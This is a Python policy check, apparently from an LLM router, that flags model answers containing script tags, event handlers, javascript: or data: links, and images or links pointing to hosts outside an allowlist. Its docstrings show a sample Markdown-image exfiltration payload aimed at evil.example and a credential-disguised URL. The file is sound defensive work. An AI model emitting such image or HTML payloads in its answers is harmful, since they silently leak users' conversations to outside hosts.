"""What an answer must not bring into the page that shows it: scripts, active HTML, images and links to elsewhere.

An answer is text from outside. Where it is shown as HTML or Markdown, `<script>` runs, and a Markdown image is fetched
without a click, so that `![](https://evil.example/?q=...)` carries the conversation away (OWASP LLM Top 10 2025, LLM05
and LLM01). Code blocks are shown and not run, so what stands in them does not count; except links, which people copy.
"""

import re
from collections.abc import Iterator, Mapping
from typing import Any

from msgspec import Struct

from router_policies.checks import options
from router_policies.checks.check import NA, PASS, Answer, Family, Finding, Outcome, Request, Severity, same_outcome

_CODE = re.compile(r"```.*?(?:```|\Z)|`[^`\n]{1,400}`", re.DOTALL)
_ACTIVE = re.compile(
    r"<\s{0,4}/?\s{0,4}(script|iframe|object|embed|applet|form|base|meta|link|style|svg|math|input|button|template)(?![a-z0-9-])",
    re.IGNORECASE,
)
_HANDLER = re.compile(r"<[a-z][^<>]{0,200}?[\s/\"']on[a-z]{3,20}\s{0,4}=", re.IGNORECASE)
_SCHEME = re.compile(r"(?:javascript|vbscript):|data:text/html|data:image/svg")
_IMAGE = re.compile(
    r"!\[[^\]\n]{0,300}+\]\(\s{0,4}<?([^\s)>]{1,2000}+)|<img\b[^<>]{0,400}?\bsrc\s{0,4}=\s{0,4}[\"']?([^\s\"'>]{1,2000}+)",
    re.IGNORECASE,
)
_REFERENCE = re.compile(r"!\[[^\]\n]{0,300}+\]\[")
_URL = re.compile(r"(?:https?|ftp|wss?)://([^\s/?#\"'<>)\]}|\\]{1,300}+)", re.IGNORECASE)


class Options(Struct, frozen=True):
    """`hosts`: where links and images may lead, with all that is below: `acme.com` lets `www.acme.com` pass. None:
    links may lead anywhere, images come from nowhere. `html`: false where the answer is shown as plain text."""

    hosts: tuple[str, ...] | None = None
    html: bool = True

    def __post_init__(self) -> None:
        for host in self.hosts or ():
            if not re.fullmatch(r"[^\s/:@*]+", host):
                raise ValueError(f"expected host names like acme.com, got {host!r}")


class Injection:
    id = "injection"
    version = 1
    family = Family.POLICY

    def __init__(self, given: Options) -> None:
        self._hosts = tuple(host.lower().strip(".") for host in given.hosts or ())
        self._links = given.hosts is not None
        self._html = given.html

    def judge(self, request: Request, answer: Answer, other: Answer | None) -> Finding:
        text = answer.text
        if not text:
            return NA
        if self._html and (found := self._active(_CODE.sub(" ", text) if "`" in text else text)):
            return found
        if self._links and "://" in text:
            for match in _URL.finditer(text):
                if not self._allowed(match[1]):
                    return Finding(Outcome.FAIL, Severity.MEDIUM, evidence=f"link to elsewhere: {_shown(match[1])}")
        return PASS

    def agree(self, request: Request, student: Answer, teacher: Answer, found: tuple[Finding, Finding]) -> bool:
        return same_outcome(found)

    def _active(self, text: str) -> Finding | None:
        lowered = text.lower()
        if "<" in text:
            if match := _ACTIVE.search(text):
                return Finding(Outcome.FAIL, Severity.CRITICAL, evidence=f"active HTML: <{match[1].lower()}>")
            if _HANDLER.search(text):
                return Finding(Outcome.FAIL, Severity.CRITICAL, evidence="active HTML: an event handler")
        if ("script:" in lowered or "data:" in lowered) and (match := _SCHEME.search(lowered)):
            return Finding(Outcome.FAIL, Severity.CRITICAL, evidence=f"active link: {match[0]}")
        if "![" in text or "<" in text:
            for host in _image_hosts(text):
                if not self._allowed(host):
                    return Finding(Outcome.FAIL, Severity.HIGH, evidence=f"image from elsewhere: {_shown(host)}")
        return None

    def _allowed(self, authority: str) -> bool:
        host = _host(authority)
        return any(host == allowed or host.endswith("." + allowed) for allowed in self._hosts)


def make(given: Mapping[str, Any]) -> Injection:
    return Injection(options.read(Options, given))


def _image_hosts(text: str) -> Iterator[str]:
    """Of images that are fetched over the network; a reference (`![x][1]`) leads where one cannot see here."""
    for match in _IMAGE.finditer(text):
        url = match[1] or match[2]
        if url.startswith("//"):
            yield url[2:].partition("/")[0]
        elif (found := _URL.match(url)) is not None:
            yield found[1]
    if _REFERENCE.search(text):
        yield "a reference"


def _host(authority: str) -> str:
    """Without credentials and port: `https://acme.com@evil.example:8080/` leads to evil.example."""
    host = authority.rpartition("@")[2]
    return (host if host.startswith("[") else host.partition(":")[0]).rstrip(".,;!").lower()


def _shown(authority: str) -> str:
    return _host(authority)[:60]
